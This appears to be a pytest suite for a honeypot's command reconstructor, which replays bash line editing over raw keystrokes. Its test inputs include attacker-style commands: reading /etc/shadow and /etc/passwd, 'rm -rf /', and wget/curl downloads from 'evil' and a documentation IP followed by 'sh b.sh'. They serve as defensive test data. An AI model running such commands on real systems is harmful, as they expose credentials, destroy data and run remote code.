"""Command reconstruction: bash's line editing replayed over raw keystrokes, hostile input included."""

from __future__ import annotations

import random

import pytest

from sandtrap.bridge.commands import MAX_LINE, CommandReconstructor
from sandtrap.bridge.proxy import RelayObserver
from sandtrap.sandbox.base import TermSize

LEFT, RIGHT, UP, DOWN = b"\x1b[D", b"\x1b[C", b"\x1b[A", b"\x1b[B"
HOME, END, DELETE = b"\x1b[H", b"\x1b[F", b"\x1b[3~"
PASTE_START, PASTE_END = b"\x1b[200~", b"\x1b[201~"


def typed(*chunks: bytes, **kwargs: int) -> tuple[list[str], CommandReconstructor]:
    seen: list[str] = []
    r = CommandReconstructor(seen.append, **kwargs)
    for chunk in chunks:
        r.on_input(chunk)
    return seen, r


def keys(stream: bytes) -> list[str]:
    """Feed one byte at a time: the worst fragmentation a client can produce."""
    seen, _ = typed(*(stream[i : i + 1] for i in range(len(stream))))
    whole, _ = typed(stream)
    assert seen == whole
    return seen


def test_is_a_relay_observer_that_ignores_output() -> None:
    seen: list[str] = []
    observer: RelayObserver = CommandReconstructor(seen.append)  # checked by mypy
    observer.on_output(b"ls\r", False)
    observer.on_resize(TermSize(80, 24))
    observer.on_input(b"id\r")
    assert seen == ["id"]


def test_plain_lines_and_enter_variants() -> None:
    assert keys(b"ls -la\r") == ["ls -la"]
    assert keys(b"id\n") == ["id"]
    assert keys(b"uname -a\r\nw\r\n") == ["uname -a", "w"]  # \r\n counts once
    assert keys(b"a\r\rb\n\n") == ["a", "b"]  # empty lines are not commands
    assert keys(b"   \r\t\r") == []


def test_typo_corrected_with_backspace() -> None:
    assert keys(b"cat /etc/pasd\x7fswd\r") == ["cat /etc/passwd"]
    assert keys(b"whoam\x08\x08ami\r") == ["whoami"]
    assert keys(b"\x7f\x7fls\r") == ["ls"]  # backspace on an empty line


def test_kill_line_and_word() -> None:
    assert keys(b"rm -rf /\x15echo hi\r") == ["echo hi"]
    assert keys(b"wget http://evil/x.sh  \x17curl -O http://evil/x.sh\r") == ["wget curl -O http://evil/x.sh"]
    assert keys(b"cd /tmp; ls\x01\x0b pwd\r") == [" pwd"]  # ^K kills to the end
    assert keys(b"echo one two\x1b\x7fthree\r") == ["echo one three"]  # Alt-Backspace


def test_ctrl_c_abandons_the_line_and_ctrl_d_on_empty_is_ignored() -> None:
    assert keys(b"reboot\x03uptime\r") == ["uptime"]
    assert keys(b"\x04") == []
    assert keys(b"abc\x01\x04\r") == ["bc"]  # on a non-empty line ^D deletes at the cursor
    assert keys(b"\x03\x03\r") == []


def test_cursor_movement_and_insert_in_the_middle() -> None:
    assert keys(b"ech hello" + LEFT * 6 + b"o\r") == ["echo hello"]
    assert keys(b"ls /" + b"\x1bOD" + b"-l \x1bOC" + b"tmp\r") == ["ls -l /tmp"]  # SS3 arrows
    assert keys(b"world" + HOME + b"hello " + END + b"!\r") == ["hello world!"]
    assert keys(b"bc\x01a\x05d\r") == ["abcd"]
    assert keys(b"abxc" + LEFT * 2 + DELETE + b"\r") == ["abc"]
    assert keys(b"x" + LEFT * 5 + RIGHT * 5 + b"y\r") == ["xy"]  # movement stops at both ends
    assert keys(b"foo bar baz" + b"\x1b[1;5D" * 2 + b"X\r") == ["foo Xbar baz"]  # Ctrl-Left
    assert keys(b"foo bar" + b"\x1bb\x1bb\x1bf" + b"X\r") == ["fooX bar"]  # Alt-B, Alt-F
    assert keys(b"a" + b"\x1b[1~" + b"b" + b"\x1b[4~" + b"c\r") == ["bac"]  # Home/End as CSI ~


def test_history_recall_and_edit() -> None:
    seen, r = typed(b"ls /\r", b"cat /etc/shadow\r", UP + UP + b"tmp\r")
    assert seen == ["ls /", "cat /etc/shadow", "ls /tmp"]
    assert r.history == ("ls /", "cat /etc/shadow", "ls /tmp")
    seen, r = typed(b"one\r", b"two\r", UP + UP + UP + DOWN + b"!\r")  # up past the oldest stays there
    assert seen == ["one", "two", "two!"]
    seen, _ = typed(b"one\r", b"partial" + UP + DOWN + b" line\r")  # the line being typed survives
    assert seen == ["one", "partial line"]
    seen, _ = typed(b"one\r", b"two\r", UP + b"X" + UP + DOWN + b"\r")  # an edit survives navigation
    assert seen == ["one", "two", "twoX"]
    seen, _ = typed(b"one\r", UP + b"X" + b"\x03", UP + b"\r")  # ^C drops the edit
    assert seen == ["one", "one"]
    seen, _ = typed(b"first\r", b"\x10\x10\x0e\x10\r")  # ^P/^N
    assert seen == ["first", "first"]
    seen, _ = typed(DOWN + UP + b"\r")  # no history at all
    assert seen == []


def test_paste_of_several_lines_in_one_chunk() -> None:
    seen, _ = typed(b"cd /tmp\nwget http://198.51.100.7/b.sh\nsh b.sh\n")
    assert seen == ["cd /tmp", "wget http://198.51.100.7/b.sh", "sh b.sh"]


def test_bracketed_paste_markers_are_stripped() -> None:
    assert keys(PASTE_START + b"echo a\necho b" + PASTE_END + b"\r") == ["echo a", "echo b"]
    assert keys(b"x " + PASTE_START + b"y" + PASTE_END + b" z\r") == ["x y z"]


def test_other_escape_sequences_are_ignored() -> None:
    assert keys(b"a\x1b[2~\x1b[5~\x1b[15;2~\x1bOP\x1b[?1;2cb\r") == ["ab"]  # Insert, PgUp, F5, F1, DA reply
    assert keys(b"a\x1b\rb\r") == ["a", "b"]  # a lone ESC is dropped, the Enter still counts
    assert keys(b"a\x1b[12\rb\r") == ["a", "b"]  # a sequence cut short by a control key
    assert keys(b"a\x1bxb\r") == ["ab"]  # Alt-X: nothing bash does with the line
    assert keys(b"\x1b[" + b"9" * 1000 + b"Dok\r") == ["ok"]  # long parameters are bounded
    assert keys(b"a\x0cb\x12c\x1a\r") == ["abc"]  # ^L, ^R, ^Z are dropped


def test_tab_and_unicode_are_kept() -> None:
    assert keys(b"cat /et\tpas\t\r") == ["cat /et\tpas\t"]
    assert keys("echo héllo ☃".encode() + b"\x7fX\r") == ["echo héllo X"]  # backspace eats a character
    assert keys(b"echo \xff\xfe\r") == ["echo \ufffd\ufffd"]


def test_long_line_is_cut() -> None:
    seen, _ = typed(b"A" * (MAX_LINE + 500), b"\r")
    assert seen == ["A" * MAX_LINE]
    seen, _ = typed(b"x" * 20 + HOME + b"y" * 10 + b"\r", max_line=25)
    assert seen == ["y" * 5 + "x" * 20]


def test_history_is_bounded() -> None:
    seen, r = typed(*(b"cmd%d\r" % i for i in range(50)), max_history=10)
    assert len(seen) == 50
    assert r.history == tuple(f"cmd{i}" for i in range(40, 50))
    seen, r = typed(b"a\r", b"b\r", UP + UP + UP + b"\r", max_history=0)
    assert seen == ["a", "b"]
    assert r.history == ()


@pytest.mark.parametrize("seed", range(20))
def test_random_bytes_never_raise_or_exceed_bounds(seed: int) -> None:
    rng = random.Random(seed)
    alphabet = [b"\x1b", b"[", b"O", b"~", b"\r", b"\n", b"\x7f", b"A", b"B", b"C", b"D", b"2", b"0", b";", b"a"]
    seen: list[str] = []
    r = CommandReconstructor(seen.append, max_line=64, max_history=8)
    for _ in range(300):
        if rng.random() < 0.5:
            chunk = rng.randbytes(rng.randint(1, 64))
        else:
            chunk = b"".join(rng.choices(alphabet, k=rng.randint(1, 64)))
        r.on_input(chunk)
        assert len(r.line) <= 64
        assert 0 <= r.cursor <= len(r.line)
        assert len(r.history) <= 8
    assert all(len(c) <= 64 and c.strip() for c in seen)
    assert r.commands == len(seen)


def test_editing_flood_is_skipped_to_the_next_enter() -> None:
    seen, r = typed(b"ls" + b"a\x7f" * 200 + b"more\r" + b"id\r", max_line=10)  # 40 keys allowed per line
    assert seen == ["ls", "id"]
    assert r.line == ""


def test_reconstruction_stops_after_max_keys() -> None:
    seen, r = typed(b"a\rb\r" + b"\x01" * 10, b"c\r", max_keys=10)
    assert seen == ["a", "b"]
    assert r.is_stopped
